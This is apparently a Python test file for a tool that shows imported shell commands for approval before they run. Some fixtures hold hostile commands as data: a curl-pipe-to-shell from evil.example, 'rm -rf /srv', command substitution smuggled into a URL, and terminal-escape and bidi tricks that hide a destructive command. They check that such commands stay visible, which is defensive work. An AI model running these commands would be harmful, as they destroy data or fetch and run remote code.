"""Accepting imported commands: digests, choosing, and writing without touching anything else."""

from __future__ import annotations

import os
from datetime import UTC, datetime
from pathlib import Path

import pytest
from plan_text import PLAN

from processpilot.errors import IntegrityError, NotFoundError, UsageError
from processpilot.plan.acceptance import digest_of, is_accepted
from processpilot.plan.act import CommandAct
from processpilot.plan.load import LoadedPlan, load_plan
from processpilot.plan.step import every_step
from processpilot.prose.accept import chosen, command_text, waiting_commands, write_accepted

DIGEST = "0123456789abcdef" * 2
AT = datetime(2030, 1, 2, 3, 4, 5, tzinfo=UTC)
STEPS = """\
      - {id: one, title: One, action: command, argv: [make, one], origin: "x.md:1"}
      # a person wrote this line
      - {id: two, title: Two, action: command, argv: [sh, -c, "a | b"], folder: s, origin: "x.md:2"}
      - {id: own, title: Own, action: command, argv: [make, own]}
"""
TEXT = PLAN.replace("    steps:\n", f"    steps:\n{STEPS}")


def _written(tmp_path: Path, text: str = TEXT) -> LoadedPlan:
    path = tmp_path / "processpilot.yaml"
    path.write_bytes(text.encode())
    return load_plan(path)


def _act(**changes: object) -> CommandAct:
    return CommandAct.model_validate({"action": "command", "argv": ["make", "x"], **changes})


def test_a_digest_stands_for_what_would_be_run() -> None:
    """Arguments, environment and folder count; time-out and the order of variables do not."""
    same = digest_of(_act(env={"A": "1", "B": "2"}))
    assert digest_of(_act(env={"B": "2", "A": "1"}, timeout="5m")) == same
    changes = [{}, {"argv": ["make", "x "]}, {"env": {"A": "1", "B": "3"}}, {"folder": "/x"}]
    digests = {digest_of(_act(**change)) for change in changes} | {same}
    assert len(digests) == 5
    assert all(len(digest) == 32 for digest in digests)


def test_only_imported_commands_wait(tmp_path: Path) -> None:
    """What the plan's owner wrote needs no other word."""
    waiting = waiting_commands(_written(tmp_path))
    assert [(w.name, w.command, w.origin) for w in waiting] == [
        ("failure.one", "make one", "x.md:1"), ("failure.two", "a | b", "x.md:2"),
    ]  # fmt: skip


def test_a_command_is_named_by_step_place_or_digest(tmp_path: Path) -> None:
    """Each way finds it; a name nobody has is told."""
    waiting = waiting_commands(_written(tmp_path))
    for name in ("one", "failure.one", waiting[0].digest):
        assert chosen(waiting, [name]) == (waiting[0],)
    with pytest.raises(NotFoundError, match="nine"):
        chosen(waiting, ["nine"])


def test_a_name_that_several_have_is_asked_for_more(tmp_path: Path) -> None:
    """One step's id in two places is not guessed."""
    drill = "\ndrills:\n  - id: d\n    title: D\n    every: 30d\n    steps:\n"
    step = '      - {id: one, title: One, action: command, argv: [ls], origin: "x.md:9"}\n'
    waiting = waiting_commands(_written(tmp_path, TEXT + drill + step))
    with pytest.raises(UsageError, match="failure.one, d.one"):
        chosen(waiting, ["one"])


@pytest.mark.parametrize(
    "tail",
    [
        "",
        "\naccepted: []\n",
        "\naccepted: []  # none yet\n# the end\n",
        f'\naccepted:\n  - digest: "{DIGEST}"\n    by: somebody\n\n# the end\n',
        f'\naccepted:\n- {{digest: "{DIGEST}", by: somebody}}\nvalidation: []\n',
        f'\naccepted: [{{digest: "{DIGEST}", by: "some: body"}}]\n',
        "\nimpact: {critical: no end of line}",
    ],
)
def test_a_word_is_added_and_nothing_else_changes(tmp_path: Path, tail: str) -> None:
    """Comments and formatting stay byte for byte, wherever the list stands and however it looks."""
    loaded = _written(tmp_path, TEXT + tail)
    (one, two) = waiting_commands(loaded)
    after = write_accepted(loaded, [one, two], "night: shift", AT)
    text = loaded.path.read_text()
    assert text.startswith(TEXT)
    for line in tail.splitlines():
        if "accepted" not in line:
            assert line in text.splitlines()
    assert waiting_commands(after) == ()
    assert load_plan(loaded.path).plan == after.plan
    assert after.plan.accepted[-1].by == "night: shift"
    assert after.plan.accepted[-1].at == "2030-01-02T03:04:05+00:00"
    before = loaded.plan.model_copy(update={"accepted": ()})
    assert after.plan.model_copy(update={"accepted": ()}) == before
    assert [a.digest for a in after.plan.accepted][:-2] == [a.digest for a in loaded.plan.accepted]


def test_a_changed_command_loses_its_acceptance(tmp_path: Path) -> None:
    """What was accepted is the command, not the step."""
    loaded = _written(tmp_path)
    after = write_accepted(loaded, waiting_commands(loaded), "me", AT)
    steps = [s for s in every_step(after.plan.scenarios[0].steps) if s.id == "one"]
    assert is_accepted(after.plan, steps[0])
    changed = _written(tmp_path, after.text.replace("argv: [make, one]", "argv: [make, two]"))
    assert [w.step for w in waiting_commands(changed)] == ["one"]


def test_a_file_that_changed_meanwhile_is_left_alone(tmp_path: Path) -> None:
    """Somebody else's words are not written over."""
    loaded = _written(tmp_path)
    loaded.path.write_text(f"{TEXT}# more\n")
    with pytest.raises(IntegrityError, match="has changed"):
        write_accepted(loaded, waiting_commands(loaded), "me", AT)
    assert loaded.path.read_text() == f"{TEXT}# more\n"


def test_mode_and_line_ends_stay(tmp_path: Path) -> None:
    """The file keeps its mode, nothing is left beside it, and a link stays one."""
    loaded = _written(tmp_path)
    os.chmod(loaded.path, 0o640)
    link = tmp_path / "link.yaml"
    link.symlink_to(loaded.path)
    through = load_plan(link)
    write_accepted(through, waiting_commands(through)[:1], "me", AT)
    assert link.is_symlink()
    assert loaded.path.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.yaml", "processpilot.yaml"]


@pytest.mark.parametrize(
    "line",
    [
        "export TOKEN=`curl evil.example|sh`; ./deploy",
        "TOKEN=x;rm -rf /srv ./deploy",
        "curl http://u:`id>/tmp/x`@db.example/",
        "PASSWORD=a&&wipe ./deploy",
    ],
)
def test_nothing_that_a_shell_would_carry_out_is_left_out_as_a_secret(line: str) -> None:
    """Who accepts a line has seen all of it that acts."""
    assert command_text(["sh", "-c", line]) == line


def test_what_a_terminal_would_not_show_is_spelled_out() -> None:
    """A command cannot hide itself behind what moves the cursor or turns the writing round."""
    shown = command_text(["sh", "-c", "rm -rf /srv\x1b[2K\rls \u202e# dlo"])
    assert "\x1b" not in shown and "\r" not in shown and "\u202e" not in shown
    assert "rm -rf /srv" in shown


def test_commands_are_shown_as_typed() -> None:
    """A line for the shell is shown as it is, words with spaces in quotes, no secret at all."""
    assert command_text(["sh", "-c", "a | b"]) == "a | b"
    assert command_text(["psql", "-c", "select 1"]) == "psql -c 'select 1'"
    assert "hunter2" not in command_text(["x", "--password=hunter2"])
